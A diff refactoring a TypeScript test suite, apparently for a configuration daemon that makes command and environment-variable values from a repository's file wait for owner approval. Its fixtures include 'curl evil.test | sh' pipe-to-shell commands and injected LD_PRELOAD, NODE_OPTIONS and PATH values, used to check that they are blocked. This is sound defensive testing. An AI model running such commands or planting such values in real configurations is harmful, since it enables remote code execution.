@@ -6,31 +6,22 @@ import type { JsonValue } from "../../../shared/json.ts";
 import { noRescans, startTestDaemon, type TestDaemon, type TestDaemonOptions, until } from "../../helpers/daemon.ts";
 import { systemError, watchFileSystem } from "../../helpers/file-system.ts";
 import { healthOf, saveByRename } from "../../helpers/shop.ts";
-import { startWorkTree, type WorkTree } from "../../helpers/work-tree.ts";
+import { startWorkTree } from "../../helpers/work-tree.ts";
 
 const service = (ready: string): JsonValue => ({ web: { ready, image: "node:24" } });
 const [good, evil, other] = [service("true"), service("curl evil.test | sh"), service("curl other.test | sh")];
-const textOf = (svc: { readonly [field: string]: JsonValue }) => `${JSON.stringify({ config: { svc } })}\n`;
-
-interface Tree extends Omit<WorkTree, "pull"> {
-  pull(svc: { readonly [field: string]: JsonValue }): Promise<void>;
-  served(): Promise<JsonValue | undefined>;
-  waiting(): Promise<readonly { readonly field: string; readonly value: JsonValue; readonly hash: string }[]>;
-  accept(value: JsonValue): Promise<readonly { readonly code: number }[]>;
-}
+type Fields = { readonly [field: string]: JsonValue };
+const textOf = (svc: Fields) => `${JSON.stringify({ config: { svc } })}\n`;
 
 /** A work tree whose file has these values when it is added. */
-async function startTree(
-  svc: { readonly [field: string]: JsonValue } = {},
-  options: TestDaemonOptions = {},
-): Promise<Tree> {
+async function startTree(svc: Fields = {}, options: TestDaemonOptions = {}) {
   const tree = await startWorkTree(textOf(svc), options);
   return {
     ...tree,
-    pull: pulled => tree.pull(textOf(pulled)),
+    pull: (pulled: Fields) => tree.pull(textOf(pulled)),
     served: () => tree.value("services"),
     waiting: async () => (await tree.t.owner.call("trust/list", { repo: "site" })).result,
-    accept: async value => {
+    accept: async (value: JsonValue) => {
       const accepted = { repo: "site", field: "svc.services", hash: hashOfValue(value) };
       return (await tree.t.owner.call("trust/accept", accepted)).errors;
     },
@@ -55,16 +46,8 @@ describe("a command value from a work tree's file", () => {
     expect(problem).toMatchObject({ code: 1114, field: "svc.services", line: 1 });
     expect(problem?.message).toMatch(/repoconf trust.*using its last valid value/);
     expect(problem?.message).not.toContain("evil");
-    expect((await tree.t.owner.call("trust/list")).result).toEqual([
-      {
-        repo: "site",
-        field: "svc.services",
-        value: evil,
-        effect: { command: true },
-        hash: hashOfValue(evil),
-        serving: good,
-      },
-    ]);
+    const waits = { value: evil, effect: { command: true }, hash: hashOfValue(evil), serving: good };
+    expect((await tree.t.owner.call("trust/list")).result).toEqual([{ repo: "site", field: "svc.services", ...waits }]);
     expect((await tree.t.owner.call("config/explain", { repo: "site", field: "svc.services" })).result).toMatchObject({
       origin: "lastGood",
       value: good,
@@ -82,12 +65,8 @@ describe("a command value from a work tree's file", () => {
     await using tree = await startTree({ services: evil, envvars: [{ name: "LD_PRELOAD", value: "evil.so" }] });
     expect(await tree.served()).toEqual({});
     expect(await tree.value("envvars")).toEqual([]);
-    await tree.t.owner.call("config/watch", { repo: "site" });
-    const { result } = await tree.t.owner.call("trust/accept", {
-      repo: "site",
-      field: "svc.services",
-      hash: hashOfValue(evil),
-    });
+    const args = { repo: "site", field: "svc.services", hash: hashOfValue(evil) };
+    const { result } = await tree.t.owner.call("trust/accept", args);
     expect(await tree.t.owner.nextChange()).toMatchObject({
       revision: result.revision,
       source: "file",
@@ -133,12 +112,9 @@ describe("a command value from a work tree's file", () => {
   });
 
   test("is trusted only in its own field and repository", async () => {
-    const properties = {
-      run: { type: "string", "x-command": true, default: "" },
-      stop: { type: "string", "x-command": true, default: "" },
-    };
+    const command = { type: "string", "x-command": true, default: "" };
     await using tree = await startTree();
-    await addTasks(tree.t, properties);
+    await addTasks(tree.t, { run: command, stop: command });
     await tree.set({ "tasks.run": "make" });
     await saveByRename(tree.file, JSON.stringify({ config: { tasks: { run: "make", stop: "make" } } }));
     expect((await tree.waiting()).map(({ field }) => field)).toEqual(["tasks.stop"]);
@@ -151,12 +127,11 @@ describe("a command value from a work tree's file", () => {
   });
 
   test("also waits if it becomes an environment variable, whatever x-command says", async () => {
-    const properties = {
+    await using tree = await startTree();
+    await addTasks(tree.t, {
       options: { type: "string", "x-env": "NODE_OPTIONS", default: "" },
       path: { type: "string", "x-env": "PATH", "x-command": false, default: "" },
-    };
-    await using tree = await startTree();
-    await addTasks(tree.t, properties);
+    });
     const tasks = { options: "--require ./evil.js", path: "evil" };
     await saveByRename(tree.file, JSON.stringify({ config: { tasks } }));
     expect((await tree.waiting()).map(({ field }) => field)).toEqual(["tasks.options", "tasks.path"]);
@@ -202,23 +177,18 @@ describe("a command value from a work tree's file", () => {
     expect(await tree.served()).toEqual(good);
   });
 
-  test("is not trusted because of an earlier repository with the same id", async () => {
-    await using tree = await startTree({});
-    await tree.set({ "svc.services": evil });
-    await tree.t.owner.call("repo/remove", { repo: "site" });
-    await tree.t.owner.call("repo/add", { id: "site", name: "site", path: tree.folder, inTree: true });
-    expect(await tree.served()).toEqual({});
-    expect(await tree.waiting()).toHaveLength(1);
-  });
-
-  test("leaves no hash once it is forgotten", async () => {
-    await using tree = await startTree({});
+  test("leaves no hash once it is forgotten, and is not trusted because of an earlier repository with the same id", async () => {
+    await using tree = await startTree();
     await tree.set({ "svc.services": evil });
     await tree.set({ "svc.services": good });
     await tree.t.owner.call("history/forget", { repo: "site", field: "svc.services" });
     const text = await readFile(join(tree.home, "trust.json"), "utf8");
     expect(text).toContain(hashOfValue(good));
     expect(text).not.toContain(hashOfValue(evil));
+    await tree.t.owner.call("repo/remove", { repo: "site" });
+    await tree.t.owner.call("repo/add", { id: "site", name: "site", path: tree.folder, inTree: true });
+    expect(await tree.served()).toEqual({});
+    expect(await tree.waiting()).toHaveLength(1);
   });
 });
 
